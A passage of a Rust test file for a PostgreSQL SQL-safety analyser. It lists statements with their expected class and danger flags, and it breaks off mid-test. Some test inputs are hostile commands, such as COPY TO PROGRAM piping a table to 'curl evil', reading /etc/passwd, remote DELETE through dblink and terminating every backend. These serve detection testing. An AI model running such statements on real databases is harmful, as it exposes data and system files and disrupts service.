//! Classification of single statements, one row per case.

mod support;

use pgfleet_sqlcheck::{DangerCode, StatementClass, analyze};

use DangerCode as D;
use StatementClass::{Ddl, Read, Session, TransactionControl, Utility, Write};

struct Case {
    name: &'static str,
    sql: &'static str,
    class: StatementClass,
    command: &'static str,
    findings: &'static [DangerCode],
}

const fn case(
    name: &'static str,
    sql: &'static str,
    class: StatementClass,
    command: &'static str,
    findings: &'static [DangerCode],
) -> Case {
    Case {
        name,
        sql,
        class,
        command,
        findings,
    }
}

const CASES: &[Case] = &[
    // Reads.
    case("plain select", "SELECT 1", Read, "SELECT", &[]),
    case(
        "select from table",
        "SELECT a, b FROM t WHERE a > 1 ORDER BY b LIMIT 10",
        Read,
        "SELECT",
        &[],
    ),
    case("values", "VALUES (1, 'a'), (2, 'b')", Read, "SELECT", &[]),
    case("table", "TABLE t", Read, "SELECT", &[]),
    case(
        "read-only CTE",
        "WITH x AS (SELECT 1 AS a) SELECT * FROM x",
        Read,
        "SELECT",
        &[],
    ),
    case(
        "join and subquery",
        "SELECT * FROM a JOIN b USING (id) WHERE id IN (SELECT id FROM c)",
        Read,
        "SELECT",
        &[],
    ),
    case("union", "SELECT 1 UNION ALL SELECT 2", Read, "SELECT", &[]),
    case(
        "window function",
        "SELECT rank() OVER (PARTITION BY a ORDER BY b) FROM t",
        Read,
        "SELECT",
        &[],
    ),
    case(
        "harmless functions",
        "SELECT now(), lower('X'), count(*), currval('s') FROM t",
        Read,
        "SELECT",
        &[],
    ),
    case("pg_sleep is fine", "SELECT pg_sleep(1)", Read, "SELECT", &[]),
    case("show", "SHOW search_path", Read, "SHOW", &[]),
    case("show all", "SHOW ALL", Read, "SHOW", &[]),
    case("explain select", "EXPLAIN SELECT * FROM t", Read, "EXPLAIN", &[]),
    case(
        "explain without analyze of a delete",
        "EXPLAIN DELETE FROM t",
        Write,
        "EXPLAIN",
        &[D::DeleteWithoutWhere],
    ),
    case(
        "explain analyze false of a delete",
        "EXPLAIN (ANALYZE false) DELETE FROM t",
        Write,
        "EXPLAIN",
        &[D::DeleteWithoutWhere],
    ),
    case(
        "explain analyze of a read",
        "EXPLAIN ANALYZE SELECT * FROM t",
        Read,
        "EXPLAIN",
        &[],
    ),
    case(
        "explain (analyze) of a read",
        "EXPLAIN (ANALYZE, BUFFERS) SELECT 1",
        Read,
        "EXPLAIN",
        &[],
    ),
    case("copy table to stdout", "COPY t TO STDOUT", Read, "COPY", &[]),
    case(
        "copy select to stdout",
        "COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)",
        Read,
        "COPY",
        &[],
    ),
    case(
        "declare cursor",
        "DECLARE c CURSOR FOR SELECT * FROM t",
        Read,
        "DECLARE CURSOR",
        &[],
    ),
    case(
        "declare cursor with hold",
        "DECLARE c CURSOR WITH HOLD FOR SELECT 1",
        Read,
        "DECLARE CURSOR",
        &[],
    ),
    case("fetch", "FETCH 10 FROM c", Read, "FETCH", &[]),
    case("move", "MOVE NEXT IN c", Read, "MOVE", &[]),
    case(
        "string that looks like a write",
        "SELECT 'DELETE FROM t; DROP TABLE t'",
        Read,
        "SELECT",
        &[],
    ),
    case(
        "dollar quote that looks like a write",
        "SELECT $$; DELETE FROM t$$",
        Read,
        "SELECT",
        &[],
    ),
    case(
        "identifier named like a function",
        "SELECT nextval FROM t",
        Read,
        "SELECT",
        &[],
    ),
    // Hidden writes.
    case(
        "writable CTE delete",
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "writable CTE delete without where",
        "WITH d AS (DELETE FROM t RETURNING *) SELECT 1",
        Write,
        "SELECT",
        &[D::DeleteWithoutWhere],
    ),
    case(
        "writable CTE update",
        "WITH u AS (UPDATE t SET a = 1 WHERE b RETURNING a) SELECT * FROM u",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "writable CTE insert",
        "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "writable CTE nested in a subquery",
        "SELECT * FROM (SELECT 1) s WHERE EXISTS (WITH d AS (DELETE FROM t WHERE a RETURNING 1) SELECT 1)",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "select into",
        "SELECT * INTO new_t FROM t",
        Ddl,
        "SELECT INTO",
        &[],
    ),
    case("for update", "SELECT * FROM t FOR UPDATE", Write, "SELECT", &[]),
    case("for share", "SELECT * FROM t FOR SHARE", Write, "SELECT", &[]),
    case(
        "for no key update",
        "SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "for key share",
        "SELECT * FROM t FOR KEY SHARE",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "locking in a subquery",
        "SELECT * FROM (SELECT * FROM t FOR UPDATE) s",
        Write,
        "SELECT",
        &[],
    ),
    case("nextval", "SELECT nextval('s')", Write, "SELECT", &[]),
    case(
        "qualified setval",
        "SELECT pg_catalog.setval('s', 42)",
        Write,
        "SELECT",
        &[],
    ),
    case("nextval in values", "VALUES (nextval('s'))", Write, "SELECT", &[]),
    case(
        "nextval in limit",
        "SELECT 1 LIMIT nextval('s')",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "nextval in array",
        "SELECT ARRAY[nextval('s')]",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "nextval in case",
        "SELECT CASE WHEN x THEN nextval('s') END FROM t",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "nextval in from",
        "SELECT * FROM nextval('s')",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "nextval quoted upper",
        "SELECT \"NEXTVAL\"('s')",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "set_config",
        "SELECT set_config('role', 'admin', false)",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "advisory lock",
        "SELECT pg_advisory_lock(1)",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "advisory xact lock",
        "SELECT pg_advisory_xact_lock(1)",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "try advisory lock",
        "SELECT pg_try_advisory_lock_shared(1)",
        Write,
        "SELECT",
        &[],
    ),
    case("large object", "SELECT lo_create(0)", Write, "SELECT", &[]),
    case(
        "lo_export",
        "SELECT lo_export(1, '/tmp/x')",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "dblink",
        "SELECT * FROM dblink('dbname=x', 'DELETE FROM t') AS r(a int)",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "dblink_exec",
        "SELECT dblink_exec('DELETE FROM t')",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "terminate backend",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "cancel backend",
        "SELECT pg_cancel_backend(42)",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "read file",
        "SELECT pg_read_file('/etc/passwd')",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "read binary file",
        "SELECT pg_read_binary_file('x')",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "ls dir",
        "SELECT pg_ls_dir('.')",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "stat file",
        "SELECT pg_stat_file('x')",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "reload conf",
        "SELECT pg_reload_conf()",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "rotate logfile",
        "SELECT pg_rotate_logfile()",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "switch wal",
        "SELECT pg_switch_wal()",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case(
        "restore point",
        "SELECT pg_create_restore_point('x')",
        Write,
        "SELECT",
        &[D::SideEffectFunction],
    ),
    case("pg_notify", "SELECT pg_notify('ch', 'x')", Write, "SELECT", &[]),
    case("txid_current", "SELECT txid_current()", Write, "SELECT", &[]),
    case(
        "pg_current_xact_id",
        "SELECT pg_current_xact_id()",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "query_to_xml",
        "SELECT query_to_xml('select nextval(''s'')', true, true, '')",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "side effect in where",
        "SELECT * FROM t WHERE pg_advisory_lock(id) IS NOT NULL",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "side effect in filter",
        "SELECT count(*) FILTER (WHERE nextval('s') > 0) FROM t",
        Write,
        "SELECT",
        &[],
    ),
    case(
        "copy delete returning to stdout",
        "COPY (DELETE FROM t WHERE a RETURNING *) TO STDOUT",
        Write,
        "COPY",
        &[],
    ),
    case("copy from stdin", "COPY t FROM STDIN", Write, "COPY", &[]),
    case(
        "copy to program",
        "COPY t TO PROGRAM 'curl evil'",
        Write,
        "COPY",
        &[D::CopyProgram],
    ),
    case(
        "copy from program",
        "COPY t FROM PROGRAM 'cat /etc/passwd'",
        Write,
        "COPY",
        &[D::CopyProgram],
    ),
    case(
        "copy to file",
        "COPY t TO '/tmp/t.csv'",
        Write,
        "COPY",
        &[D::CopyServerFile],
    ),
    case(
        "copy from file",
        "COPY t FROM '/tmp/t.csv'",
        Write,
        "COPY",
        &[D::CopyServerFile],
    ),
    case(
        "declare cursor for update",
        "DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE",
        Write,
        "DECLARE CURSOR",
        &[],
    ),
    case(
        "explain analyze delete",
        "EXPLAIN ANALYZE DELETE FROM t WHERE a = 1",
        Write,
        "EXPLAIN",
        &[],
    ),
    case(
        "explain (analyze) delete without where",
        "EXPLAIN (ANALYZE true, VERBOSE) DELETE FROM t",
        Write,
        "EXPLAIN",
        &[D::DeleteWithoutWhere],
    ),
    case(
        "explain analyze nextval",
        "EXPLAIN ANALYZE SELECT nextval('s')",
        Write,
        "EXPLAIN",
        &[],
    ),
    case(
        "explain analyze create table as",
        "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1",
        Ddl,
        "EXPLAIN",
        &[],
    ),
    case(
        "explain analyze execute",
        "EXPLAIN ANALYZE EXECUTE p",
        Write,
        "EXPLAIN",
        &[],
    ),
    // DML.
    case("insert", "INSERT INTO t (a) VALUES (1)", Write, "INSERT", &[]),
    case(
        "insert select",
        "INSERT INTO t SELECT * FROM u",
        Write,
        "INSERT",
        &[],
    ),
    case(
        "insert on conflict",
        "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2",
        Write,
        "INSERT",
        &[],
    ),
    case(
        "insert on conflict nothing",
        "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING",
        Write,
        "INSERT",
        &[],
    ),
    case(
        "update with where",
        "UPDATE t SET a = 1 WHERE id = 2",
        Write,
        "UPDATE",
        &[],
    ),
    case(
        "update without where",
        "UPDATE t SET a = 1",
        Write,
        "UPDATE",
        &[D::UpdateWithoutWhere],
    ),
    case(
        "update where true",
        "UPDATE t SET a = 1 WHERE true",
        Write,
        "UPDATE",
        &[D::UpdateWithoutWhere],
    ),
    case(
        "update where 1=1",
        "UPDATE t SET a = 1 WHERE 1 = 1",
        Write,
        "UPDATE",
        &[D::UpdateWithoutWhere],
    ),
    case(
        "update where current of",
        "UPDATE t SET a = 1 WHERE CURRENT OF c",
        Write,
        "UPDATE",
        &[],
    ),
    case(
        "delete with where",
        "DELETE FROM t WHERE id = 1",
        Write,
        "DELETE",
        &[],
    ),
    case(
        "delete without where",
        "DELETE FROM public.t",
        Write,
        "DELETE",
        &[D::DeleteWithoutWhere],
    ),
    case(
        "delete where id = id",
        "DELETE FROM t WHERE id = id",
        Write,
        "DELETE",
        &[D::DeleteWithoutWhere],
    ),
    case(
        "delete where x or true",
        "DELETE FROM t WHERE a = 2 OR 't'::boolean",
        Write,
        "DELETE",
        &[D::DeleteWithoutWhere],
    ),
    case(
        "delete where a = 1 and true",
        "DELETE FROM t WHERE a = 1 AND true",
        Write,
        "DELETE",
        &[],
    ),
    case(
        "delete using",
        "DELETE FROM t USING u WHERE t.id = u.id",
        Write,
        "DELETE",
        &[],
    ),
    case(
        "merge",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
        Write,
        "MERGE",
        &[],
    ),
    case("truncate", "TRUNCATE t", Write, "TRUNCATE TABLE", &[D::Truncate]),
    case(
        "truncate cascade",
        "TRUNCATE TABLE a, b CASCADE",
        Write,
        "TRUNCATE TABLE",
        &[D::Truncate],
    ),
    case("execute", "EXECUTE p(1)", Write, "EXECUTE", &[]),
    // DDL.
    case(
        "create table",
        "CREATE TABLE t (id int PRIMARY KEY DEFAULT nextval('s'))",
        Ddl,
        "CREATE TABLE",
        &[],
    ),
    case(
        "create table as",
        "CREATE TABLE t2 AS SELECT * FROM t",
        Ddl,
        "CREATE TABLE AS",
        &[],
    ),
    case(
        "create materialized view",
        "CREATE MATERIALIZED VIEW mv AS SELECT 1",
        Ddl,
        "CREATE MATERIALIZED VIEW",
        &[],
    ),
    case(
        "refresh materialized view",
        "REFRESH MATERIALIZED VIEW mv",
        Ddl,
        "REFRESH MATERIALIZED VIEW",
        &[],
    ),
    case(
        "create view",
        "CREATE VIEW v AS SELECT * FROM t",
        Ddl,
        "CREATE VIEW",
        &[],
    ),
    case(
        "create or replace view",
        "CREATE OR REPLACE VIEW v AS SELECT 1",
        Ddl,
        "CREATE VIEW",
        &[D::ReplaceDefinition],
    ),
    case(
        "create index",
        "CREATE INDEX i ON t (a)",
        Ddl,
        "CREATE INDEX",
        &[],
    ),
    case(
        "create index concurrently",
        "CREATE INDEX CONCURRENTLY i ON t (a)",
        Ddl,
        "CREATE INDEX",
        &[],
    ),
    case("create schema", "CREATE SCHEMA s", Ddl, "CREATE SCHEMA", &[]),
    case(
        "create sequence",
        "CREATE SEQUENCE s",
        Ddl,
        "CREATE SEQUENCE",
        &[],
    ),
    case(
        "create type enum",
        "CREATE TYPE mood AS ENUM ('sad', 'ok')",
        Ddl,
        "CREATE TYPE",
        &[],
    ),
    case(
        "create function",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        Ddl,
        "CREATE FUNCTION",
        &[],
    ),
    case(
        "create or replace procedure",
        "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$DELETE FROM t$$",
        Ddl,
        "CREATE PROCEDURE",
        &[D::ReplaceDefinition],
    ),
    case(
        "begin atomic body is a definition",
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
        Ddl,
        "CREATE FUNCTION",
        &[],
    ),
    case(
        "create extension",
        "CREATE EXTENSION dblink",
        Ddl,
        "CREATE EXTENSION",
        &[D::Extension],
    ),
    case("comment", "COMMENT ON TABLE t IS 'x'", Ddl, "COMMENT", &[]),
    case(
        "create trigger",
        "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
        Ddl,
        "CREATE TRIGGER",
        &[],
    ),
    case("drop table", "DROP TABLE t", Ddl, "DROP TABLE", &[D::Drop]),
    case(
        "drop table cascade",
        "DROP TABLE IF EXISTS a, s.b CASCADE",
        Ddl,
        "DROP TABLE",
        &[D::Drop],
    ),
    case(
        "drop index concurrently",
        "DROP INDEX CONCURRENTLY i",
        Ddl,
        "DROP INDEX",
        &[D::Drop],
    ),
    case("drop view", "DROP VIEW v", Ddl, "DROP VIEW", &[D::Drop]),
    case(
        "drop function",
        "DROP FUNCTION f(int)",
        Ddl,
        "DROP FUNCTION",
        &[D::Drop],
    ),
    case(
        "drop schema",
        "DROP SCHEMA s CASCADE",
        Ddl,
        "DROP SCHEMA",
        &[D::Drop],
    ),
    case("drop owned", "DROP OWNED BY alice", Ddl, "DROP OWNED", &[D::Drop]),
    case(
        "alter table",
        "ALTER TABLE t ADD COLUMN b int",
        Ddl,
        "ALTER TABLE",
        &[D::Alter],
    ),
    case(
        "alter table drop column",
        "ALTER TABLE t DROP COLUMN b",
        Ddl,
        "ALTER TABLE",
        &[D::Alter],
    ),
    case(
        "rename table",
        "ALTER TABLE t RENAME TO u",
        Ddl,
        "ALTER TABLE",
        &[D::Alter],
    ),
    case(
        "rename column",
        "ALTER TABLE t RENAME COLUMN a TO b",
        Ddl,
        "ALTER TABLE",
        &[D::Alter],
    ),
    case(
        "alter owner",
        "ALTER TABLE t OWNER TO bob",
        Ddl,
        "ALTER TABLE",
        &[D::Alter],
    ),
    case(
        "alter function owner",
        "ALTER FUNCTION f() OWNER TO bob",
        Ddl,
        "ALTER FUNCTION",
        &[D::Alter],
    ),
    case(
        "alter set schema",
        "ALTER TABLE t SET SCHEMA s",
        Ddl,
        "ALTER TABLE",
        &[D::Alter],
    ),
    case(
        "alter sequence",
        "ALTER SEQUENCE s RESTART",
        Ddl,
        "ALTER SEQUENCE",
        &[D::Alter],
    ),
    case(
        "alter type add value",
        "ALTER TYPE mood ADD VALUE 'happy'",
        Ddl,
        "ALTER TYPE",
        &[D::Alter],
    ),
    case(
        "alter system",
        "ALTER SYSTEM SET work_mem = '1GB'",
        Ddl,
        "ALTER SYSTEM",
        &[D::Alter, D::AlterSystem],
    ),
    case(
        "grant",
        "GRANT SELECT ON t TO alice",
        Ddl,
        "GRANT",
        &[D::Privileges],
    ),
    case(
        "revoke",
        "REVOKE ALL ON t FROM PUBLIC",
        Ddl,
        "REVOKE",
        &[D::Privileges],
    ),
    case(
        "grant role",
        "GRANT admin TO alice",
        Ddl,
        "GRANT ROLE",
        &[D::Privileges],
    ),
    case(
        "alter default privileges",
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r",
        Ddl,
        "ALTER DEFAULT PRIVILEGES",
        &[D::Privileges],
    ),
    case(
        "create role",
        "CREATE ROLE alice LOGIN PASSWORD 'x'",
        Ddl,
        "CREATE ROLE",
        &[D::Role],
    ),
    case("create user", "CREATE USER alice", Ddl, "CREATE ROLE", &[D::Role]),
    case(
        "alter role",
        "ALTER ROLE alice SUPERUSER",
        Ddl,
        "ALTER ROLE",
        &[D::Alter, D::Role],
    ),
    case(
        "alter user",
        "ALTER USER alice WITH PASSWORD 'y'",
        Ddl,
        "ALTER ROLE",
        &[D::Alter, D::Role],
    ),
    case(
        "drop role",
        "DROP ROLE alice",
        Ddl,
        "DROP ROLE",
        &[D::Role, D::Drop],
    ),
    case(
        "drop user",
        "DROP USER IF EXISTS alice",
        Ddl,
        "DROP ROLE",
        &[D::Role, D::Drop],
    ),
    case(
        "reassign owned",
        "REASSIGN OWNED BY alice TO bob",
        Ddl,
        "REASSIGN OWNED",
        &[D::Role],
    ),
    case(
        "create database",
        "CREATE DATABASE d",
        Ddl,
        "CREATE DATABASE",
        &[D::Database],
    ),
    case(
        "alter database",
        "ALTER DATABASE d SET work_mem = '1MB'",
        Ddl,
        "ALTER DATABASE",
        &[D::Database, D::Alter],
    ),
    case(
        "drop database",
        "DROP DATABASE d",
        Ddl,
        "DROP DATABASE",
        &[D::Database, D::Drop],
    ),
    case(
        "create tablespace",
        "CREATE TABLESPACE ts LOCATION '/x'",
        Ddl,
        "CREATE TABLESPACE",
        &[],
    ),
    case(
        "drop tablespace",
        "DROP TABLESPACE ts",
        Ddl,
        "DROP TABLESPACE",
        &[D::Drop],
    ),
    // Transaction control.
    case("begin", "BEGIN", TransactionControl, "BEGIN", &[]),
    case(
        "begin read write",
        "BEGIN READ WRITE",
        TransactionControl,
        "BEGIN",
        &[],
    ),
    case(
        "start transaction",
        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        TransactionControl,
        "START TRANSACTION",
        &[],
    ),
    case("commit", "COMMIT", TransactionControl, "COMMIT", &[]),
    case("end", "END", TransactionControl, "COMMIT", &[]),
    case("rollback", "ROLLBACK", TransactionControl, "ROLLBACK", &[]),
    case("abort", "ABORT", TransactionControl, "ROLLBACK", &[]),
    case("savepoint", "SAVEPOINT s", TransactionControl, "SAVEPOINT", &[]),
    case(
        "release",
        "RELEASE SAVEPOINT s",
        TransactionControl,
        "RELEASE",
        &[],
    ),
    case(
        "rollback to",
        "ROLLBACK TO SAVEPOINT s",
        TransactionControl,
        "ROLLBACK",
        &[],
    ),
    case(
        "prepare transaction",
        "PREPARE TRANSACTION 'x'",
        TransactionControl,
        "PREPARE TRANSACTION",
        &[D::PreparedTransaction],
    ),
    case(
        "commit prepared",
        "COMMIT PREPARED 'x'",
        TransactionControl,
        "COMMIT PREPARED",
        &[D::PreparedTransaction],
    ),
    case(
        "rollback prepared",
        "ROLLBACK PREPARED 'x'",
        TransactionControl,
        "ROLLBACK PREPARED",
        &[D::PreparedTransaction],
    ),
    case(
        "set transaction read write",
        "SET TRANSACTION READ WRITE",
        TransactionControl,
        "SET",
        &[],
    ),
    case(
        "set transaction_read_only",
        "SET transaction_read_only = off",
        TransactionControl,
        "SET",
        &[],
    ),
    case(
        "set local transaction_read_only",
        "SET LOCAL transaction_read_only TO false",
        TransactionControl,
        "SET",
        &[],
    ),
    case(
        "set transaction snapshot",
        "SET TRANSACTION SNAPSHOT '0001'",
        TransactionControl,
        "SET",
        &[],
    ),
    // Session.
    case(
        "set search_path",
        "SET search_path = app, public",
        Session,
        "SET",
        &[],
    ),
    case(
        "set local",
        "SET LOCAL statement_timeout = 0",
        Session,
        "SET",
        &[],
    ),
    case("set time zone", "SET TIME ZONE 'UTC'", Session, "SET", &[]),
    case(
        "set an allow-listed setting",
        "SET work_mem = '64MB'",
        Session,
        "SET",
        &[],
    ),
    case(
        "set a planner switch",
        "SET enable_seqscan = off",
        Session,
        "SET",
        &[],
    ),
    case("set role", "SET ROLE admin", Session, "SET", &[D::SetRole]),
    case(
        "set role generic syntax",
        "SET role = 'admin'",
        Session,
        "SET",
        &[D::SetRole],
    ),
    case(
        "set session authorization",
        "SET SESSION AUTHORIZATION admin",
        Session,
        "SET",
        &[D::SetRole],
    ),
    case("reset role", "RESET ROLE", Session, "RESET", &[]),
    case("reset all", "RESET ALL", Session, "RESET", &[]),
    case("discard all", "DISCARD ALL", Session, "DISCARD ALL", &[]),
    case("discard temp", "DISCARD TEMP", Session, "DISCARD TEMP", &[]),
    case("listen", "LISTEN ch", Session, "LISTEN", &[]),
    case("unlisten", "UNLISTEN *", Session, "UNLISTEN", &[]),
    case("prepare", "PREPARE p AS SELECT 1", Session, "PREPARE", &[]),
    case(
        "prepare a delete without where",
        "PREPARE p AS DELETE FROM t",
        Session,
        "PREPARE",
        &[D::DeleteWithoutWhere],
    ),
    case("deallocate", "DEALLOCATE p", Session, "DEALLOCATE", &[]),
    case("deallocate all", "DEALLOCATE ALL", Session, "DEALLOCATE ALL", &[]),
    case("close cursor", "CLOSE c", Session, "CLOSE CURSOR", &[]),
    case("close all", "CLOSE ALL", Session, "CLOSE CURSOR ALL", &[]),
    case(
        "set constraints",
        "SET CONSTRAINTS ALL DEFERRED",
        Session,
        "SET CONSTRAINTS",
        &[],
    ),
    // Utility.
    case("vacuum", "VACUUM t", Utility, "VACUUM", &[]),
    case("vacuum analyze", "VACUUM ANALYZE t", Utility, "VACUUM", &[]),
    case(
        "vacuum full",
        "VACUUM FULL t",
        Utility,
        "VACUUM",
        &[D::VacuumFull],
    ),
    case(
        "vacuum (full)",
        "VACUUM (FULL, VERBOSE) t",
        Utility,
        "VACUUM",
        &[D::VacuumFull],
    ),
    case(
        "vacuum (full false)",
        "VACUUM (FULL false) t",
        Utility,
        "VACUUM",
        &[],
    ),
    case("analyze", "ANALYZE t", Utility, "ANALYZE", &[]),
    case("cluster", "CLUSTER t USING i", Utility, "CLUSTER", &[D::Cluster]),
    case("reindex", "REINDEX TABLE t", Utility, "REINDEX", &[D::Reindex]),
    case(
        "reindex concurrently",
        "REINDEX TABLE CONCURRENTLY t",
        Utility,
        "REINDEX",
        &[D::Reindex],
    ),
    case("checkpoint", "CHECKPOINT", Utility, "CHECKPOINT", &[]),
    case(
        "lock",
        "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
        Utility,
        "LOCK TABLE",
        &[],
    ),
    case("notify", "NOTIFY ch, 'x'", Utility, "NOTIFY", &[]),
    case(
        "do",
        "DO $$BEGIN DELETE FROM t; END$$",
        Utility,
        "DO",
        &[D::DoBlock],
    ),
    case("call", "CALL p(1)", Utility, "CALL", &[]),
    case("load", "LOAD 'auto_explain'", Utility, "LOAD", &[D::LoadLibrary]),
];

#[test]
fn statements_are_classified_from_the_whole_tree() {
    let mut failures = Vec::new();
    for case in CASES {
        let analysis = match analyze(case.sql) {
            Ok(analysis) => analysis,
            Err(e) => {
                failures.push(format!("{}: does not parse: {e}", case.name));
                continue;
            }
        };
        let [statement] = analysis.statements.as_slice() else {
            failures.push(format!(
                "{}: expected one statement, got {}",
                case.name,
                analysis.statements.len()
            ));
            continue;
        };
        let mut codes: Vec<DangerCode> = statement.findings.iter().map(|f| f.code).collect();
        codes.sort();
        let mut expected = case.findings.to_vec();
        expected.sort();
        let got = (statement.class, statement.command.as_str(), codes);
        let want = (case.class, case.command, expected);
        if got != want {
            failures.push(format!(
                "{}: got {got:?}, want {want:?} (notes: {:?})",
                case.name, statement.notes
            ));
        }
        let must_write = matches!(statement.class, Write | Ddl | Utility);
        if statement.is_read() && statement.can_write || must_write && !statement.can_write {
            failures.push(format!(
                "{}: class {:?} with can_write {}",
                case.name, statement.class, statement.can_write
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

#[test]
fn only_reads_are_read_only() {
    for case in CASES {
        let analysis = analyze(case.sql).expect(case.name);
        assert_eq!(analysis.is_read_only(), case.class == Read, "case {}", case.name);
    }
}

#[test]
fn statements_that_cannot_run_in_a_transaction_block() {
    let cases: &[(&str, &str, bool)] = &[
        ("vacuum", "VACUUM t", true),
        ("analyze", "ANALYZE t", false),
        ("create database", "CREATE DATABASE d", true),
        ("drop database", "DROP DATABASE d", true),
        (
            "alter database set tablespace",
            "ALTER DATABASE d SET TABLESPACE ts",
            true,
        ),
        (
            "alter database set",
            "ALTER DATABASE d SET work_mem = '1MB'",
            false,
        ),
        (
            "create index concurrently",
            "CREATE INDEX CONCURRENTLY i ON t (a)",
            true,
        ),
        ("create index", "CREATE INDEX i ON t (a)", false),
        ("reindex concurrently", "REINDEX INDEX CONCURRENTLY i", true),
        ("reindex (concurrently)", "REINDEX (CONCURRENTLY) TABLE t", true),
        ("reindex table", "REINDEX TABLE t", false),
        ("reindex database", "REINDEX DATABASE d", true),
        ("reindex system", "REINDEX SYSTEM d", true),
        ("drop index concurrently", "DROP INDEX CONCURRENTLY i", true),
        ("drop index", "DROP INDEX i", false),
        ("alter system", "ALTER SYSTEM SET work_mem = '1GB'", true),
        ("create tablespace", "CREATE TABLESPACE ts LOCATION '/x'", true),
        ("drop tablespace", "DROP TABLESPACE ts", true),
        ("cluster all", "CLUSTER", true),
        ("cluster table", "CLUSTER t", false),
        ("discard all", "DISCARD ALL", true),
        ("discard plans", "DISCARD PLANS", false),
        ("commit prepared", "COMMIT PREPARED 'x'", true),
        (
            "detach partition concurrently",
            "ALTER TABLE p DETACH PARTITION c CONCURRENTLY",
            true,
        ),
        ("detach partition", "ALTER TABLE p DETACH PARTITION c", false),
        (
            "create subscription",
            "CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p",
            true,
        ),
        (
            "create subscription no slot",
            "CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p WITH (create_slot = false)",
            false,
        ),
        ("select", "SELECT 1", false),
    ];
    for (name, sql, expected) in cases {
        let analysis = analyze(sql).expect(name);
        assert_eq!(analysis.requires_no_transaction_block(), *expected, "case {name}");
    }
}

#[test]
fn transaction_control_is_marked() {
    for case in CASES {
        let analysis = analyze(case.sql).expect(case.name);
        assert_eq!(
            analysis.has_transaction_control(),
            case.class == TransactionControl,
            "case {}",
            case.name
        );
    }
}

#[test]
fn functions_called_are_listed_lower_cased_with_schema() {
    let analysis = analyze(
        "SELECT Lower(a), pg_catalog.NOW(), lower(b) FROM t WHERE x = ANY(ARRAY[MyFn(1)]) LIMIT abs(-1)",
    )
    .expect("parses");
    let names: Vec<String> = analysis.statements[0]
        .functions_called
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(names, ["lower", "pg_catalog.now", "myfn", "abs"]);
}

#[test]
fn side_effect_functions_are_reported_with_their_entry() {
    let analysis = analyze("SELECT dblink_exec('x'), nextval('s'), now()").expect("parses");
    let found: Vec<(String, bool)> = analysis.statements[0]
        .side_effect_functions()
        .map(|(name, entry)| (name.to_string(), entry.dangerous))
        .collect();
    assert_eq!(
        found,
        [("dblink_exec".to_owned(), true), ("nextval".to_owned(), false)]
    );
}

#[test]
fn reasons_name_the_objects() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "drop cascade",
            "DROP TABLE s.a, b CASCADE",
            "DROP TABLE s.a, b removes it permanently, and CASCADE",
        ),
        (
            "delete",
            "DELETE FROM app.orders",
            "DELETE on app.orders has no WHERE clause",
        ),
        (
            "update tautology",
            "UPDATE t SET a = 1 WHERE 1 = 1",
            "UPDATE on t has a WHERE clause that is always true",
        ),
        ("truncate", "TRUNCATE a, b", "TRUNCATE removes every row of a, b"),
        (
            "alter",
            "ALTER TABLE public.t ADD b int",
            "ALTER TABLE public.t changes",
        ),
        (
            "drop role",
            "DROP ROLE alice",
            "DROP ROLE alice removes it permanently",
        ),
        (
            "drop database",
            "DROP DATABASE prod",
            "DROP DATABASE prod removes",
        ),
    ];
    for (name, sql, expected) in cases {
        let analysis = analyze(sql).expect(name);
